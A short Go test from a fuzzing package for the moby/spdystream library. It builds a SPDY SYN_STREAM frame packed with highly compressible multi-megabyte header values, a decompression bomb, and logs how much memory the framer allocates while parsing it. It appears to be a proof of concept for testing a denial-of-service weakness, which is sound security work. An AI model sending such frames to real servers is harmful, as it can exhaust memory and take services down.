package fuzz

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"io"
	"runtime"
	"testing"

	"github.com/moby/spdystream/spdy"
)

func TestScratchBomb(t *testing.T) {
	for _, n := range []int{1, 4, 16} {
		var raw bytes.Buffer
		binary.Write(&raw, binary.BigEndian, uint32(n))
		val := make([]byte, 1<<20)
		for i := 0; i < n; i++ {
			binary.Write(&raw, binary.BigEndian, uint32(2))
			raw.Write([]byte{'a' + byte(i/26), 'a' + byte(i%26)})
			binary.Write(&raw, binary.BigEndian, uint32(len(val)))
			raw.Write(val)
		}
		var comp bytes.Buffer
		zw, _ := zlib.NewWriterLevel(&comp, 9)
		zw.Write(raw.Bytes())
		zw.Flush()
		var fr bytes.Buffer
		binary.Write(&fr, binary.BigEndian, uint32(0x80030001))
		binary.Write(&fr, binary.BigEndian, uint32(10+comp.Len()))
		binary.Write(&fr, binary.BigEndian, uint32(1))
		binary.Write(&fr, binary.BigEndian, uint32(0))
		fr.Write([]byte{0, 0})
		fr.Write(comp.Bytes())
		in := fr.Bytes()
		runtime.GC()
		var a, b runtime.MemStats
		runtime.ReadMemStats(&a)
		f, _ := spdy.NewFramer(io.Discard, bytes.NewReader(in))
		frame, err := f.ReadFrame()
		runtime.ReadMemStats(&b)
		runtime.GC()
		var c runtime.MemStats
		runtime.ReadMemStats(&c)
		nv := 0
		if s, ok := frame.(*spdy.SynStreamFrame); ok {
			for _, v := range s.Headers {
				nv += len(v)
			}
		}
		t.Logf("n=%d input=%d bytes err=%v values=%d alloc=%d MiB retained=%d MiB", n, len(in), err, nv, (b.TotalAlloc-a.TotalAlloc)>>20, (int64(c.HeapAlloc)-int64(a.HeapAlloc))>>20)
		runtime.KeepAlive(frame)
	}
}
